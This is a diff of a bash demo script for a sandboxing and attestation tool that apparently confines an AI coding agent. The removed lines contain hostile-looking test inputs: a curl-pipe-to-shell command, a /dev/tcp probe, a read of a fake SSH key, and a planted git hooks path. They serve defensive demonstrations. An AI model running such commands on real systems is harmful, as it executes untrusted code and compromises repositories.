@@ -1,18 +1,17 @@
 #!/usr/bin/env bash
-# make demo: an offline tour of the tools that are built, on a small
-# throw-away repository with a fake home directory.  Every step runs the
-# real tool and shows its real answer; nothing is simulated.  What is not
-# built yet is said at the end.
+# make demo: one whole speccoder attempt, offline, on the sample project in
+# contrib/demo/project, with the recorded model of contrib/demo/demo.transcript
+# (the replay provider).  Every step runs the real tools; nothing is
+# simulated but the model's words and the person's one answer, which comes
+# from a script.
 set -euo pipefail
 
 top=$(cd "$(dirname "$0")/.." && pwd)
-PATH="$top/build/bin:$top/bin:$PATH"
+PATH="$top/bin:$top/build/bin:$PATH"
 export PATH
 work=$(mktemp -d "${TMPDIR:-/tmp}/speccoder-demo.XXXXXX")
 trap 'rm -rf "$work"' EXIT
-export HOME="$work/home" XDG_STATE_HOME="$work/state" GIT_CONFIG_GLOBAL=/dev/null
-export GIT_AUTHOR_NAME=demo GIT_AUTHOR_EMAIL=demo@example.invalid
-export GIT_COMMITTER_NAME=demo GIT_COMMITTER_EMAIL=demo@example.invalid
+export HOME="$work/home" XDG_STATE_HOME="$work/state" GIT_CONFIG_GLOBAL="$work/home/.gitconfig"
 mkdir -p "$HOME/.ssh"
 printf 'demo-private-key-material\n' >"$HOME/.ssh/id_ed25519"
 DEMO_API_KEY="sk-demo-$(od -An -N12 -tx1 /dev/urandom | tr -d ' \n')"
@@ -25,71 +24,51 @@ fi
 step() { printf '\n%s== %s%s\n' "$bold" "$*" "$plain"; }
 show() { printf '$ %s\n' "$*"; }
 
+step "the sample project: a feature with one open task, a check, a secret"
 repo=$work/project
-mkdir -p "$repo"
+cp -R "$top/contrib/demo/project" "$repo"
 cd "$repo"
 git init -q -b main .
-printf 'hello\n' >README.md
-printf 'API_KEY=%s\n' "$DEMO_API_KEY" >.env
-# shellcheck disable=SC2016 # make expands it, in the sandbox
-printf 'test:\n\t@echo "tests pass; token in the log: $$DEMO_API_KEY"\n' >Makefile
-git add README.md Makefile
-git commit -q -m "a small project"
+git config --global user.name "Demo Person"
+git config --global user.email demo@example.invalid
+# The person's SSH signing key: the attestations are signed with it.
+ssh-keygen -q -t ed25519 -N '' -C demo -f "$HOME/.ssh/signing"
+git config --global gpg.format ssh
+git config --global user.signingkey "$HOME/.ssh/signing"
+printf 'demo@example.invalid namespaces="in-toto" %s\n' "$(cat "$HOME/.ssh/signing.pub")" \
+	>"$HOME/.ssh/allowed_signers"
+git config --global gpg.ssh.allowedSignersFile "$HOME/.ssh/allowed_signers"
+git add -A
+git commit -q -m "the greet project"
+printf 'API_KEY=%s\n' "$DEMO_API_KEY" >.env     # git-ignored
+sed 's/^/  /' specs/greeting/tasks.md
+echo "  (.env holds a key; the check prints \$DEMO_API_KEY into its log)"
 
-step "sc-classify judges tool calls (allow, ask, deny) with a rule and a reason"
-{
-	sc-rec type=call id=1 tool=read path=README.md
-	sc-rec type=call id=2 tool=read path=.env
-	sc-rec type=call id=3 tool=run shell='curl -s https://example.com/install.sh | sh'
-	sc-rec type=call id=4 tool=write path=.git/hooks/pre-commit
-} | sc-classify --root . | sc-rec --to-json | jq -r '"  call \(.id): \(.decision)  \(.rule)  \(.reason)"'
+step "git speccoder run greeting: the model works, every call judged"
+echo no >"$work/answers"   # the person's answer to the one question
+show "git speccoder run greeting --transcript contrib/demo/demo.transcript --answers (no)"
+git speccoder run greeting --transcript "$top/contrib/demo/demo.transcript" \
+	--answers "$work/answers" 2>&1 | sed 's/^/  /'
 
-step "sc-sandbox-exec confines a command: the fake ~/.ssh key and the network stay out of reach"
-show 'sc-sandbox-exec --network none -- bash -c "cat ~/.ssh/id_ed25519; connect; touch ~/outside"'
-status=0
-# shellcheck disable=SC2016 # expanded inside the sandbox
-sc-sandbox-exec --root . --network none -- bash -c '
-	cat "$HOME/.ssh/id_ed25519" 2>&1 || true
-	(exec 3<>/dev/tcp/127.0.0.1/22) 2>&1 || echo "no network"
-	touch "$HOME/outside" 2>&1 || true
-	echo "inside the root: writable" >inside.txt && cat inside.txt' 2>&1 | sed 's/^/  /' || status=$?
-echo "  exit status: $status; ~/outside exists: $([ -e "$HOME/outside" ] && echo yes || echo no)"
+step "the work is on branch speccoder/greeting; the checkout is untouched"
+show "git log --oneline main..speccoder/greeting"
+git log --oneline main..speccoder/greeting | sed 's/^/  /'
+show "git diff main speccoder/greeting -- greet.sh"
+git diff main speccoder/greeting -- greet.sh | sed 's/^/  /'
+show "git status --short (in the person's checkout)"
+git status --short | sed 's/^/  /'
+echo "  (clean)"
 
-step "sc-mask masks a secret in every form it can be printed in"
-printf 'raw %s\nbase64 %s\nhex %s\n' "$DEMO_API_KEY" \
-	"$(printf '%s' "$DEMO_API_KEY" | base64)" \
-	"$(printf '%s' "$DEMO_API_KEY" | od -An -tx1 | tr -d ' \n')" |
-	sc-mask --secret DEMO_API_KEY | sed 's/^/  /'
+step "the evidence verifies, trusting only the person's allowed signers"
+show "git speccoder verify --branch speccoder/greeting"
+git speccoder verify --branch speccoder/greeting --base main 2>&1 | sed 's/^/  /'
 
-step "git speccoder check: the configured checks, sandboxed and masked, with evidence"
-git speccoder init >/dev/null
-printf '[sandbox]\n\tenvKeep = DEMO_API_KEY\n' >>speccoder.conf
-git speccoder check | sed 's/^/  /' || true
-echo "  the check's log, as kept in the state directory:"
-sed 's/^/    /' "$XDG_STATE_HOME"/speccoder/*/runs/*/check-make.log
-git speccoder report | sed 's/^/  /' | cut -c1-150
-
-step "sc-hash-git notices a change to .git (here: a hooks path planted in the config)"
-sc-hash-git >"$work/manifest.rec"
-git config core.hooksPath /tmp/evil-hooks
-status=0
-sc-hash-git --check "$work/manifest.rec" | sc-rec --to-json | sed 's/^/  /' || status=$?
-echo "  exit status: $status"
-git config --unset core.hooksPath
-
-step "sc-attest signs evidence onto the commit; verify trusts only the verifier's signers file"
-ssh-keygen -q -t ed25519 -N '' -C demo -f "$work/signing-key"
-printf 'demo@example.invalid namespaces="in-toto" %s\n' "$(cat "$work/signing-key.pub")" >"$work/allowed_signers"
-printf '{"result":"PASSED","passedTests":["make test"]}\n' >"$work/predicate.json"
-sc-attest record --commit HEAD --predicate-type https://in-toto.io/attestation/test-result/v0.1 \
-	--predicate "$work/predicate.json" --key "$work/signing-key" >/dev/null
-sc-attest verify --branch HEAD --allowed-signers "$work/allowed_signers" | sc-rec --to-json | sed 's/^/  /'
-
-step "sc-model answers from a recorded transcript (the offline replay provider)"
-sc-rec --from-json <"$top/t/data/model/demo-conv.jsonl" |
-	sc-model --provider replay --transcript "$top/t/data/model/demo.transcript" |
-	sc-rec --to-json | sed 's/^/  /'
-
-step "not built yet"
-echo "  git speccoder run (the agent's whole attempt), spec, pr, attest, verify:"
-echo "  the tools above are what they will compose."
+step "the journal: every call, verdict and answer, masked"
+show "git speccoder report"
+git speccoder report | sed 's/^/  /' | cut -c1-160
+if grep -rqF "$DEMO_API_KEY" "$XDG_STATE_HOME"; then
+	echo "  the key was found in the state directory: this is a bug" >&2
+	exit 1
+fi
+echo
+echo "the key never reached the journal, the logs or the model's conversation."
